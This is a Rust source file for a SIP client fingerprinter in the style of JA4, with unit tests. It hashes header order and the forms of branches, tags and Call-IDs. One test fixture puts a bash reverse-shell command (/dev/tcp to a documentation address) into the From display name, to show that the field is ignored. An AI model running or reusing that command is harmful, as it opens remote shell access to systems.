//! Tells clients apart by how they write a request, whatever they call themselves.
//!
//! A client's name for itself costs nothing to change; the order of its header fields and the way in which it makes
//! branches, tags and Call-IDs are its code. As with JA4, the text has a part for people and two hashes that can be
//! compared alone:
//!
//! ```text
//! 1i09_5f0c9a1b22_03bd41c6e7
//! ││└─ header fields that count
//! │└── first letter of the method
//! └─── version: raised when equal messages get another text
//! ```
//!
//! The first hash is of what depends on the method: the names as sent, in their order, and what Allow, Supported and
//! Accept list. The second is of what does not: the forms of Via, From, Call-ID, CSeq and Max-Forwards. Left out is what
//! others write or what changes with each message: User-Agent, credentials, routes, further Vias, numbers, names, hosts.
//! Both are FNV-1a of 64 bits, of which the upper 40 are shown.

use crate::sip::names;
use crate::sip::{Header, Kind, Message};

/// Header fields that are looked at; clients send 8 to 20.
const MAX_HEADERS: usize = 32;

/// Bytes of one value that are looked at.
const MAX_FORM: usize = 512;

/// Length of a fingerprint.
pub const LENGTH: usize = 4 + 1 + 10 + 1 + 10;

/// Written by proxies, by the user, or only once a server has asked.
const LEFT_OUT: [u8; 11] = [
    names::USER_AGENT,
    names::SERVER,
    names::ROUTE,
    names::RECORD_ROUTE,
    names::PATH,
    names::AUTHORIZATION,
    names::PROXY_AUTHORIZATION,
    names::SUBJECT,
    names::ORGANIZATION,
    names::PROXY_REQUIRE,
    names::REQUIRE,
];

/// FNV-1a.
#[derive(Clone, Copy)]
struct Mark(u64);

impl Mark {
    const fn new() -> Self {
        Self(0xcbf2_9ce4_8422_2325)
    }

    fn byte(&mut self, byte: u8) {
        self.0 = (self.0 ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3);
    }

    fn bytes(&mut self, bytes: &[u8]) {
        for byte in bytes {
            self.byte(*byte);
        }
        self.byte(0);
    }

    fn write(self, out: &mut [u8]) {
        for (place, byte) in out.iter_mut().enumerate() {
            *byte = hexadecimal((self.0 >> (60 - 4 * place)) as u8 & 15);
        }
    }
}

const fn hexadecimal(digit: u8) -> u8 {
    if digit < 10 { b'0' + digit } else { b'a' + digit - 10 }
}

/// The fingerprint of a request's client; nothing for a reply, and for what has no header field.
pub fn of(message: &Message) -> Option<[u8; LENGTH]> {
    if message.kind == Kind::Reply || message.headers.is_empty() {
        return None;
    }
    let (mut order, mut forms) = (Mark::new(), Mark::new());
    let (mut count, mut seen) = (0u8, [false; 256]);
    for header in message.headers.iter().take(MAX_HEADERS) {
        let id = header.name.id;
        let again = std::mem::replace(&mut seen[usize::from(id)], id != names::OTHER);
        if LEFT_OUT.contains(&id) || (again && id == names::VIA) {
            continue;
        }
        count += 1;
        order.bytes(header.raw_name);
        let value = header.value.get(..MAX_FORM).unwrap_or(&header.value);
        match id {
            names::ALLOW | names::SUPPORTED | names::ACCEPT => order.bytes(value),
            names::VIA if !again => via(&mut forms, header, value),
            names::FROM if !again => from(&mut forms, header, value),
            names::CALL_ID if !again => call_id(&mut forms, value),
            names::CSEQ if !again => {
                let digits = value.iter().take_while(|byte| byte.is_ascii_digit()).count();
                forms.bytes(&[b'q', u8::from(digits > 3)]);
            }
            names::MAX_FORWARDS if !again => forms.bytes(value),
            _ => {}
        }
    }
    let method = message.method.first().map_or(b'x', u8::to_ascii_lowercase);
    let mut text = [b'_'; LENGTH];
    text[0] = b'1';
    text[1] = if method.is_ascii_lowercase() { method } else { b'x' };
    text[2] = b'0' + count / 10;
    text[3] = b'0' + count % 10;
    order.write(&mut text[5..15]);
    forms.write(&mut text[16..26]);
    Some(text)
}

/// Whether a value follows the colon at once, or after how many spaces.
fn space(header: &Header) -> u8 {
    // A folded or padded line is a habit like any other; more than two spaces are many.
    match header.value.len() {
        0 => 0,
        length => (header.end.saturating_sub(header.value_start).saturating_sub(length)).min(3) as u8,
    }
}

/// Via: transport as written, kind of host, port or none, names of parameters in order, form of the branch.
fn via(forms: &mut Mark, header: &Header, value: &[u8]) {
    let entry = value.split(|byte| *byte == b',').next().unwrap_or_default();
    let mut pieces = entry.split(|byte| *byte == b';');
    let head = pieces.next().unwrap_or_default().trim_ascii();
    let cut = head.iter().rposition(|byte| *byte == b' ').unwrap_or(0);
    let (protocol, host) = head.split_at(cut);
    forms.bytes(&[b'v', space(header)]);
    forms.bytes(protocol);
    forms.bytes(&kind_of_host(host.trim_ascii()));
    for piece in pieces {
        let (name, rest) = parameter(piece);
        if name.eq_ignore_ascii_case(b"received") {
            continue;
        }
        forms.bytes(name);
        if name.eq_ignore_ascii_case(b"branch") {
            let cookie = rest.starts_with(b"z9hG4bK");
            forms.byte(u8::from(cookie));
            shape(forms, rest.get(if cookie { 7 } else { 0 }..).unwrap_or_default());
        } else {
            // `rport` and `rport=5060` are two habits.
            forms.byte(u8::from(rest.is_empty()));
        }
    }
}

/// From: brackets or none, kind of host, names of parameters, form of the tag. What stands before the brackets is the user's.
fn from(forms: &mut Mark, header: &Header, value: &[u8]) {
    forms.bytes(&[b'f', space(header)]);
    let close = value.iter().rposition(|byte| *byte == b'>');
    let parameters = match close {
        Some(close) => {
            let open = value[..close].iter().rposition(|byte| *byte == b'<').unwrap_or(0);
            let uri = &value[open + 1..close.max(open + 1)];
            let host = uri
                .iter()
                .rposition(|byte| *byte == b'@')
                .map_or(uri, |at| &uri[at + 1..]);
            let host = host.split(|byte| *byte == b';').next().unwrap_or_default();
            forms.bytes(&kind_of_host(host));
            &value[close + 1..]
        }
        None => {
            forms.byte(b'-');
            let start = value.iter().position(|byte| *byte == b';').unwrap_or(value.len());
            &value[start..]
        }
    };
    for piece in parameters.split(|byte| *byte == b';').skip(1) {
        let (name, rest) = parameter(piece);
        forms.bytes(name);
        if name.eq_ignore_ascii_case(b"tag") {
            shape(forms, rest);
        }
    }
}

/// Call-ID: the form of what stands before the `@`, and the kind of host behind it.
fn call_id(forms: &mut Mark, value: &[u8]) {
    forms.byte(b'i');
    let (local, host) = match value.iter().position(|byte| *byte == b'@') {
        Some(at) => (&value[..at], &value[at + 1..]),
        None => (value, &value[value.len()..]),
    };
    shape(forms, local);
    forms.bytes(&kind_of_host(host));
}

fn parameter(piece: &[u8]) -> (&[u8], &[u8]) {
    match piece.iter().position(|byte| *byte == b'=') {
        Some(at) => (piece[..at].trim_ascii(), piece[at + 1..].trim_ascii()),
        None => (piece.trim_ascii(), b""),
    }
}

/// `4` an IPv4 address, `6` one in brackets, `n` a name, `-` nothing; and whether a port follows.
fn kind_of_host(text: &[u8]) -> [u8; 2] {
    if text.is_empty() {
        return [b'-', 0];
    }
    if text[0] == b'[' {
        return [b'6', u8::from(text.last() != Some(&b']'))];
    }
    let port = text.contains(&b':');
    let address = text
        .iter()
        .all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b':'));
    [if address { b'4' } else { b'n' }, u8::from(port)]
}

/// The form of something random: its alphabet, and between what stays put, roughly how long its pieces are.
///
/// Numbers vary in length by a digit or two, and hexadecimal ones lose leading zeros; a piece of digits alone may come
/// from either. So the alphabet is that of the whole, and lengths are rounded.
fn shape(forms: &mut Mark, token: &[u8]) {
    let (mut letters, mut upper, mut lower, mut beyond) = (false, false, false, false);
    for byte in token.iter().filter(|byte| byte.is_ascii_alphabetic()) {
        letters = true;
        upper |= byte.is_ascii_uppercase();
        lower |= byte.is_ascii_lowercase();
        beyond |= !byte.is_ascii_hexdigit();
    }
    forms.byte(match (letters, beyond, upper, lower) {
        (false, ..) => b'd',
        (_, false, false, _) => b'h',
        (_, false, true, false) => b'H',
        (_, _, true, false) => b'A',
        (_, _, false, _) => b'a',
        _ => b'm',
    });
    let mut length = 0usize;
    for (place, byte) in token.iter().enumerate() {
        if byte.is_ascii_alphanumeric() || *byte >= 0x80 {
            length += 1;
            if place + 1 < token.len() {
                continue;
            }
            forms.byte(rounded(length, letters));
        } else {
            forms.byte(rounded(length, letters));
            forms.byte(*byte);
            length = 0;
        }
    }
    forms.byte(0);
}

fn rounded(length: usize, letters: bool) -> u8 {
    if letters {
        return length.div_ceil(4).min(32) as u8;
    }
    match length {
        0..=3 => 0,
        4..=7 => 1,
        8..=12 => 2,
        _ => 3,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sip::parse;

    fn shown(raw: &str) -> String {
        String::from_utf8(of(&parse(raw.as_bytes())).expect("a request").to_vec()).expect("ASCII")
    }

    fn message(method: &str, branch: &str, tag: &str, call_id: &str, more: &str) -> String {
        format!(
            "{method} sip:100@192.0.2.1 SIP/2.0\r\nVia: SIP/2.0/UDP 198.51.100.7:5060;branch={branch};rport\r\nMax-Forwards: 70\r\n\
             To: \"x\"<sip:100@192.0.2.1>\r\nFrom: \"y\"<sip:100@1.1.1.1>;tag={tag}\r\nCall-ID: {call_id}\r\nCSeq: 1 {method}\r\n\
             {more}Content-Length: 0\r\n\r\n"
        )
    }

    #[test]
    fn it_is_stable() {
        let text = shown(&message(
            "OPTIONS",
            "z9hG4bK-1402736178",
            "3133353831353137",
            "905673483751",
            "",
        ));
        assert_eq!(text, "1o07_d50ac42192_169e68af6e");
    }

    #[test]
    fn names_numbers_and_credentials_do_not_change_it() {
        let plain = shown(&message(
            "REGISTER",
            "z9hG4bK-1402736178",
            "3133353831353137",
            "905673483751",
            "",
        ));
        for other in [
            message("REGISTER", "z9hG4bK-902736178", "9133353831353137", "115673483751", ""),
            message(
                "REGISTER",
                "z9hG4bK-1402736178",
                "3133353831353137",
                "905673483751",
                "User-Agent: other\r\n",
            ),
            message(
                "REGISTER",
                "z9hG4bK-1402736178",
                "3133353831353137",
                "905673483751",
                "Authorization: Digest a=1\r\n",
            ),
            message("REGISTER", "z9hG4bK-1402736178", "3133353831353137", "905673483751", "")
                .replace("\"y\"", "\"bash -i >& /dev/tcp/192.0.2.9/1 0>&1\""),
            message("REGISTER", "z9hG4bK-1402736178", "3133353831353137", "905673483751", "")
                .replace("198.51.100.7", "10.1.2.3"),
        ] {
            assert_eq!(shown(&other), plain);
        }
    }

    #[test]
    fn another_hand_has_another() {
        let plain = message("REGISTER", "z9hG4bK-1402736178", "3133353831353137", "905673483751", "");
        for other in [
            plain.replace("Call-ID", "i"),
            plain.replace("Max-Forwards: 70\r\n", ""),
            plain.replace(";rport", ""),
            plain.replace("905673483751", "5f3e2a81-77aa-4b1c-9d3e-001122334455"),
            plain.replace("70", "69"),
            plain.replace("From: ", "From:"),
        ] {
            assert_ne!(shown(&other).get(5..), shown(&plain).get(5..), "{other}");
        }
    }

    #[test]
    fn the_second_half_is_the_same_for_each_method() {
        let (one, other) = (
            shown(&message(
                "REGISTER",
                "z9hG4bK-1402736178",
                "3133353831353137",
                "905673483751",
                "Expires: 60\r\n",
            )),
            shown(&message(
                "INVITE",
                "z9hG4bK-1402736178",
                "3133353831353137",
                "905673483751",
                "Allow: INVITE\r\n",
            )),
        );
        assert_ne!(one[..15], other[..15]);
        assert_eq!(one[15..], other[15..]);
    }

    #[test]
    fn replies_have_none() {
        assert!(of(&parse(b"SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP a\r\n\r\n")).is_none());
        assert!(of(&parse(b"\r\n")).is_none());
    }
}
